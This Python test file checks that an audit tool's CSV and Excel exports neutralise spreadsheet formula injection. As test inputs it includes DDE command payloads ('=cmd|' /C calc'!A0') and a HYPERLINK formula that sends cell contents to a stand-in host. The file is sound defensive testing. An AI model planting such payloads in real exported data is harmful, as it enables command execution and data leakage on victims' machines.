"""Spreadsheet formula injection (OWASP CSV injection): names and references from the data
never reach findings.csv, kpis.csv or findings.xlsx as live formulas; numbers stay numbers."""

from __future__ import annotations

import csv
import zipfile

import pandas as pd
import pytest
from _builders import make_records
from openpyxl import load_workbook

from audit.export import CSV_ENCODING, neutralise, write_csv
from audit.pipeline import audit_unit
from audit.report import write_outputs

AS_OF = "2026-10-15"
UNIT = "=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")"
PAYLOADS = ["=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1",
            "＝1+1"]


def _hostile_audit():
    cases = [{"case_id": p, "unit_id": UNIT, "executor_id": "@E1", "received_date": "2026-01-05",
              "amount_due": 1_000_000 * (i + 1), "judgment_ref": "=1+1"}
             for i, p in enumerate(PAYLOADS)]
    records = make_records(units=[{"unit_id": UNIT, "name": "=2+3"}],
                           executors=[{"executor_id": "@E1", "unit_id": UNIT, "name": "-Nguyễn"}],
                           cases=cases)
    return audit_unit(records, UNIT, AS_OF)


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    out = tmp_path_factory.mktemp("hostile")
    result = _hostile_audit()
    assert len(result.findings) >= len(PAYLOADS)  # every case is late: DL-DECISION
    return result, write_outputs(result, out)


def _cells(path):
    with path.open(encoding=CSV_ENCODING, newline="") as fh:
        return list(csv.reader(fh))


def test_csv_outputs_start_with_a_byte_order_mark(written):
    _, paths = written
    for role in ("findings_csv", "kpis_csv"):
        data = paths[role].read_bytes()
        assert data.startswith(b"\xef\xbb\xbf") and not data.startswith(b"\xef\xbb\xbf\xef\xbb\xbf")
        assert b"\r\n" in data


@pytest.mark.parametrize("role", ["findings_csv", "kpis_csv"])
def test_no_csv_cell_starts_a_formula(written, role):
    _, paths = written
    rows = _cells(paths[role])
    risky = [c for r in rows for c in r if c[:1] in ("=", "+", "@", "\t", "\r", "＝")]
    assert not risky, risky
    # A leading minus only on numbers (negative amounts are numbers, not text).
    assert all(pd.to_numeric(c, errors="coerce") == pd.to_numeric(c, errors="coerce")
               for r in rows for c in r if c.startswith("-"))
    if role == "findings_csv":
        ids = {r[0] for r in rows}
        assert any(c.startswith("'=cmd") for r in rows for c in r)
        assert ids  # the findings are all there
        assert sum(1 for r in rows[1:]) == len(written[0].findings)


def test_workbook_cells_are_text_never_formulas(written):
    _, paths = written
    with zipfile.ZipFile(paths["findings_xlsx"]) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    book = load_workbook(paths["findings_xlsx"])  # formulas kept as written, not evaluated
    texts = [c.value for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert any(v.startswith("=cmd") for v in texts)  # shown as the text it is
    assert any("=2+3" in v for v in texts)  # the unit's name in the title line, as text
    money = [c.value for ws in book for row in ws.iter_rows() for c in row if c.number_format == "#,##0"]
    assert money and all(isinstance(v, int) for v in money if v is not None)


def test_neutralise_leaves_numbers_and_ordinary_text():
    frame = pd.DataFrame({
        "text": pd.Series(["=1+1", "-5", "-1.5e3", "+84 912", "ok", None, "@x", "-x"], dtype="str"),
        "amount": pd.Series([-1, 2, 3, 4, 5, 6, 7, 8], dtype="Int64"),
    })
    out = neutralise(frame)
    assert out["text"].tolist()[:5] == ["'=1+1", "-5", "-1.5e3", "'+84 912", "ok"]
    assert out["text"].tolist()[6:] == ["'@x", "'-x"] and pd.isna(out["text"].iloc[5])
    assert out["amount"].tolist() == frame["amount"].tolist()
    assert frame["text"].iloc[0] == "=1+1"  # the input is not changed


def test_write_csv_round_trips_through_pandas(tmp_path):
    frame = pd.DataFrame({"unit_id": ["KV01", "=KV02"], "money": pd.array([-5, 10**15], dtype="Int64")})
    path = write_csv(frame, tmp_path / "x.csv")
    back = pd.read_csv(path, dtype={"unit_id": "str"}, encoding=CSV_ENCODING)
    assert back["unit_id"].tolist() == ["KV01", "'=KV02"]
    assert back["money"].tolist() == [-5, 10**15]
